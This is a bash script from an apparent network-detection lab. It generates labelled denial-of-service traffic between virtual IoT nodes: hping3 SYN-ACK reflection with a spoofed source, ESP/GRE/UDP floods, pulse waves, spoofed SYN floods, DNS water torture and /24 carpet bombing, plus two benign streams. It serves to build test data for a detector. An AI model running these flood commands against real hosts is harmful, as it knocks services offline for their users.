# shellcheck shell=bash
# Fourth-session flood and reflection shapes (issue #5 "generalise"): floods
# the earlier scenarios never produced — TCP SYN-ACK reflection, floods of
# another IP protocol (ESP, raw GRE), a pulse wave, a TTL-1 flood, a
# single-flow flood whose payload starts like RTP, a spoofed low-rate SYN
# flood, DNS water torture as Mirai's `dns` vector sends it — and two benign
# one-way streams (Art-Net lighting, syslog) that must stay quiet. hping3
# from Debian, and lab/py/dnstorture.py for the water torture. Mix them into
# any scenario with --attacks.

# The attacker sends SYNs in the phone's name to the camera's web port and
# the broker's MQTT port; their SYN-ACKs go to the phone, which never asked.
attack_synack_reflection() {
    labelled synack-reflection dos "${IP[atk]}" "${IP[phone]}" "" hping3 \
        "TCP SYN-ACK reflection: SYNs with the phone's address as source to the camera (80) and the broker (1883), 2 x 1 000/s for 3 s" atk 120 -- \
        sh -c "hping3 -q -S -a ${IP[phone]} -p 80 -c 3000 -i u1000 ${IP[cam]} & hping3 -q -S -a ${IP[phone]} -p 1883 -c 3000 -i u1000 ${IP[srv]} & wait"
}

attack_esp_flood() {
    labelled esp-flood dos "${IP[atk]}" "${IP[cam]}" "" hping3 \
        "flood of IP protocol 50 (ESP) packets, 400 bytes, 3 000/s for 4 s (hping3 --rawip -H 50)" atk 120 -- \
        hping3 -q --rawip -H 50 -d 400 -c 12000 -i u333 "${IP[cam]}"
}

# GRE with hping3's zeroed payload: no valid inner packet to look into.
attack_gre_flood_raw() {
    labelled gre-flood-raw dos "${IP[atk]}" "${IP[hub]}" "" hping3 \
        "flood of raw GRE (IP protocol 47) packets, 512 bytes, 3 000/s for 4 s (hping3 --rawip -H 47)" atk 120 -- \
        hping3 -q --rawip -H 47 -d 512 -c 12000 -i u333 "${IP[hub]}"
}

# hping3 moves its source port on with every packet: many new flows.
attack_udp_pulse_wave() {
    labelled udp-pulse-wave dos "${IP[atk]}" "${IP[plug]}" 9999 hping3 \
        "pulse-wave UDP flood: 1 500 datagrams at 4 000/s, then 4 s of silence, five times" atk 120 -- \
        sh -c "for i in 1 2 3 4 5; do hping3 -q --udp -p 9999 -d 200 -c 1500 -i u250 ${IP[plug]}; sleep 4; done"
}

attack_udp_flood_lowttl() {
    labelled udp-flood-lowttl dos "${IP[atk]}" "${IP[spk]}" 9999 hping3 \
        "UDP flood with TTL 1 (dies at the first router), 64-byte payloads, 4 000/s for 1 s" atk 120 -- \
        hping3 -q --udp -t 1 -p 9999 -d 64 -c 4000 -i u250 "${IP[spk]}"
}

# Every datagram the same 172 bytes starting 80 60 (RTP version 2, payload
# type 96): it looks like RTP but never continues a stream.
attack_udp_flood_rtp_like() {
    printf '\x80\x60\x00\x01\x00\x00\x00\x00\xde\xad\xbe\xef' >"$W/atk/rtp-like.bin"
    head -c 160 /dev/zero >>"$W/atk/rtp-like.bin"
    labelled udp-flood-rtp-like dos "${IP[atk]}" "${IP[cam]}" 5004 hping3 \
        "single-flow UDP flood whose payload starts like RTP (hping3 -s 40000 -k -E), 2 000/s for 3 s" atk 120 -- \
        hping3 -q --udp -s 40000 -k -p 5004 -E "$W/atk/rtp-like.bin" -d 172 -c 6000 -i u500 "${IP[cam]}"
}

attack_syn_flood_spoofed_slow() {
    labelled syn-flood-spoofed-slow dos "${IP[atk]}" "${IP[dvr]}" 80 hping3 \
        "low-rate SYN flood with random spoofed sources: 100/s for 15 s (hping3 -S --rand-source)" atk 120 -- \
        hping3 -q -S --rand-source -p 80 -c 1500 -i u10000 "${IP[dvr]}"
}

attack_dns_water_torture() {
    labelled dns-water-torture dos "${IP[atk]}" "${IP[gw]}" 53 dnstorture.py \
        "DNS water torture as Mirai's dns vector: queries for 12 random letters under victim-shop.com to the gateway's resolver from 64 source ports, 400/s for 5 s" atk 120 -- \
        python3 "$LAB/py/dnstorture.py" --resolver "${IP[gw]}" --domain victim-shop.com --rate 400 --count 2000
}

# Benign, unlabelled: one-way streams that must raise nothing. Art-Net DMX
# from the home server to the hub (a lighting node) and syslog from the
# camera to the home server, 1 000 datagrams a second for 8 s each.
benign_stream() {
    local name=$1 node=$2; shift 2
    echo "[lab] $(date -u +%T) benign $name (unlabelled)" >&2
    nsx "$node" timeout -k 3 60 "$@" >>"$W/logs/benign-$name.log" 2>&1 || true
}
attack_artnet_stream() {
    { printf 'Art-Net\x00\x00\x50\x00\x0e\x01\x00\x00\x00\x02\x00'; head -c 512 /dev/zero; } >"$W/atk/artnet.bin"
    benign_stream artnet srv hping3 -q --udp -s 6454 -k -p 6454 -E "$W/atk/artnet.bin" -d 530 -c 8000 -i u1000 "${IP[hub]}"
}
attack_syslog_stream() {
    printf '<134>1 2026-11-27T10:00:00Z cam nvr 1 - - motion event stored, 3 ms' >"$W/atk/syslog.bin"
    benign_stream syslog cam hping3 -q --udp -s 40514 -k -p 514 -E "$W/atk/syslog.bin" -d 68 -c 8000 -i u1000 "${IP[srv]}"
}

# Carpet bombing: hping3 --rand-dest picks a random address of the /24 for
# every packet, so each address gets about a dozen a second. The attacker's
# kernel would ARP for every address first and drop the flood to the ones
# nobody holds, so the attacker's own neighbour table gets a made-up MAC
# for each of those for the attack's duration (frames to an unknown MAC are
# flooded by the switch and dropped by every NIC; the capture sees them).
carpet_neighbours() { # add|flush
    local i addr held
    if [[ $1 == flush ]]; then nsq atk ip neigh flush nud permanent dev eth0; return; fi
    held=" ${IP[*]} "
    for i in $(seq 2 254); do
        addr=$NET.$i
        [[ $held == *" $addr "* ]] && continue
        nsq atk ip neigh replace "$addr" lladdr "02:00:00:00:00:$(printf %02x "$i")" nud permanent dev eth0
    done
}
attack_udp_carpet_bomb() {
    carpet_neighbours add
    labelled udp-carpet-bomb dos "${IP[atk]}" "$NET.0/24" 9999 hping3 \
        "UDP flood spread over the whole /24 (hping3 --rand-dest), 3 000 datagrams/s for 3 s, ~12/s per address" atk 120 -- \
        hping3 -q --udp --rand-dest -I eth0 -p 9999 -d 200 -c 9000 -i u333 "$NET.x"
    carpet_neighbours flush
}
attack_syn_carpet_bomb() {
    carpet_neighbours add
    labelled syn-carpet-bomb dos "${IP[atk]}" "$NET.0/24" 80 hping3 \
        "SYN flood with spoofed sources spread over the whole /24 (hping3 -S --rand-source --rand-dest), 3 000/s for 3 s" atk 120 -- \
        hping3 -q -S --rand-source --rand-dest -I eth0 -p 80 -c 9000 -i u333 "$NET.x"
    carpet_neighbours flush
}
